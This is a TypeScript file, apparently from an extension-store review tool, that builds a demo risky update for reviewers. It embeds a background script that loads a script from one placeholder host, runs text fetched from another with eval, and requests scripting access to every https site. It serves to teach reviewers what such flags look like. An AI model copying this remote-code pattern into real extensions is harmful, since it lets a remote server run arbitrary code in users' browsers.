import type { PackagePlan } from './model.js';

/**
 * A submitted version that reaches further than the one it replaces, written the way a real
 * risky update is: it asks for every https site and for scripting, and its background script
 * runs text fetched from a server with `eval` and loads a script from another host. The demo
 * review queue holds one such update so a new store shows reviewers what the flags on the queue
 * and the case look like (new permissions and hosts, remote code hints). The hosts are under
 * `.example`, which never resolves, so nothing is fetched even if someone loads the package.
 */

/** The host pattern the update adds: every page on every https site. */
export const REMOTE_CODE_HOST_PATTERN = 'https://*/*';

const BACKGROUND_SCRIPT = `// Keeps the counting rules up to date and counts the words of every page that loads.
importScripts('https://cdn.word-rules.example/rules/latest.js');

const RULES_URL = 'https://api.word-rules.example/v2/rules';

async function refreshRules() {
  const response = await fetch(RULES_URL);
  const source = await response.text();
  const rules = eval(source);
  await chrome.storage.local.set({ rules });
}

chrome.runtime.onInstalled.addListener(refreshRules);
chrome.runtime.onStartup.addListener(refreshRules);

chrome.tabs.onUpdated.addListener(async (tabId, change, tab) => {
  if (change.status !== 'complete' || !tab.url?.startsWith('https://')) return;
  await chrome.scripting.executeScript({
    target: { tabId },
    func: () => document.body.innerText.split(/\\s+/).filter(Boolean).length,
  });
});
`;

/** The same package with the wider access and the background script added. */
export function withRemoteCode(pkg: PackagePlan): PackagePlan {
  const permissions = Array.isArray(pkg.manifest.permissions) ? pkg.manifest.permissions : [];
  return {
    ...pkg,
    manifest: {
      ...pkg.manifest,
      permissions: [...permissions, 'scripting'],
      host_permissions: [REMOTE_CODE_HOST_PATTERN],
      background: { service_worker: 'background.js' },
    },
    extraFiles: { ...pkg.extraFiles, 'background.js': BACKGROUND_SCRIPT },
  };
}
